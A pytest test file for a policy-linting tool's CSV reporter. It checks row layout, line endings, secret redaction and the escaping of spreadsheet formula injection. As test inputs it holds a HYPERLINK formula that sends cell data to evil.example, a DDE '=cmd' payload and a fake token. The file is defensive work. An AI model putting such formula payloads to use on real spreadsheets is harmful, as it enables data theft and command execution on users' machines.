"""CSV: a row per finding or per identity and resource, cells a spreadsheet shows as text and never runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace

import pytest

from policylint.exposure import ExposedResource, Exposure
from policylint.graph import Step
from policylint.report import Report
from policylint.reporters import CHECK, REACH
from policylint.reporters import csv as csv_format

CHECK_HEADER = ["severity", "rule", "title", "subject_kind", "subject", "file", "line", "column", "message", "path",
                "fingerprint"]
REACH_HEADER = ["identity", "kind", "status", "display_name", "resource", "classes", "records", "access", "path"]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows(text: str) -> list[list[str]]:
    assert text.endswith("\r\n") and text.count("\r\n") == text.count("\n"), "RFC 4180: every record ends in CRLF"
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", ["check", "diff"])
def test_output_matches_the_golden_file(name: str, scenario: Callable[[str], Report],
                                        golden: Callable[[str, str], None]) -> None:
    text = csv_format.render(scenario(name))
    rows(text)
    golden(f"{name}.csv", text.replace("\r\n", "\n"))  # the golden file with the repository's line ends


def test_a_row_per_finding_and_no_status_column_when_nothing_suppressed_is_listed(report: Report) -> None:
    found = rows(csv_format.render(report))
    assert found[0] == CHECK_HEADER
    assert [(r[1], r[4], r[6]) for r in found[1:]] == [(f.rule, f.subject_id, str(f.location.line))
                                                       for f in report.findings]
    assert found[4] == [
        "critical", "PL101", "Active credential held by a departed or suspended person", "credential", "ak-7731",
        "org.yaml", "18", "5", "access_key ak-7731 is active but held by kim.jh (departed 2025-06-14)",
        "kim.jh –holds→ ak-7731 –authenticates as→ order-sync –assumes→ customer-db-reader –read→ customer-db",
        report.findings[3].fingerprint]


def test_cells_a_spreadsheet_would_run_are_text_and_a_line_break_cannot_end_a_row(report: Report) -> None:
    first = report.findings[0]
    hostile = replace(first, subject_id=HOSTILE, message="+1 line\nbreak", title="@SUM(A1)",
                      path=(Step("-2+3", "person"), Step("db", "resource", "grants", ("read",))))
    found = rows(CHECK["csv"](replace(report, findings=[hostile])))
    assert len(found) == 2
    assert found[1][2:5] == ["'@SUM(A1)", "principal", "'" + HOSTILE]
    assert found[1][8:10] == ["'+1 line\\x0abreak", "'-2+3 –read→ db"]


def exposure(identity: str, name: str | None = None) -> Exposure:
    path = (Step(identity, "person"), Step("ak-1", "credential", "holds"), Step("svc", "principal", "authenticates"),
            Step("iam", "resource", "grants", ("admin",)), Step("customers-db", "resource", "controls"))
    return Exposure(identity, "person", "departed", 33_700_000,
                    (ExposedResource("customers-db", ("customer_pii", "customer_contact"), 33_700_000, path),
                     ExposedResource("orders-db", ("customer_orders",), None,
                                     (Step(identity, "person"), Step("orders-db", "resource", "grants",
                                                                    ("read", "write"))))),
                    2, 1, name)


def test_reach_a_row_per_identity_and_resource_listed() -> None:
    found = rows(REACH["csv"]("2026-11-27", [exposure("kim.jh", "Kim Ji-hoon"),
                                             replace(exposure("svc-x"), kind="principal", status=None)], ()))
    assert found == [
        REACH_HEADER,
        ["kim.jh", "person", "departed", "Kim Ji-hoon", "customers-db", "customer_pii, customer_contact", "33700000",
         "controls", "kim.jh –holds→ ak-1 –authenticates as→ svc –admin→ iam –controls→ customers-db"],
        ["kim.jh", "person", "departed", "Kim Ji-hoon", "orders-db", "customer_orders", "", "read, write",
         "kim.jh –read, write→ orders-db"],  # records unknown: empty, never 0
        ["svc-x", "principal", "", "", "customers-db", "customer_pii, customer_contact", "33700000", "controls",
         "svc-x –holds→ ak-1 –authenticates as→ svc –admin→ iam –controls→ customers-db"],
        ["svc-x", "principal", "", "", "orders-db", "customer_orders", "", "read, write",
         "svc-x –read, write→ orders-db"],
    ]


def test_reach_cells_are_redacted_neutralised_and_one_line_each() -> None:
    secret = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    found = rows(REACH["csv"]("2026-11-27", [exposure(HOSTILE, "=cmd|' /C calc'!A0"), exposure("kim\n" + secret)],
                              ("a note",)))
    assert [r[:4] for r in found[1:]] == [
        ["'" + HOSTILE, "person", "departed", "'=cmd|' /C calc'!A0"],
        ["'" + HOSTILE, "person", "departed", "'=cmd|' /C calc'!A0"],
        ["kim\\x0a<redacted>", "person", "departed", ""],
        ["kim\\x0a<redacted>", "person", "departed", ""],
    ]
    assert found[1][8].startswith("'" + HOSTILE + " –holds→ ")
    assert "a note" not in REACH["csv"]("2026-11-27", [], ("a note",))  # rows only: the CLI prints notes


@pytest.mark.parametrize(("case", "path", "expected"), [
    ("a grant's actions", (Step("a", "person"), Step("db", "resource", "grants", ("read", "write"))), "read, write"),
    ("admin of an access-control resource", (Step("a", "person"), Step("db", "resource", "controls")), "controls"),
    ("no path", (), ""),
])
def test_access_is_what_the_last_step_gives(case: str, path: tuple[Step, ...], expected: str) -> None:
    assert csv_format.access(path) == expected
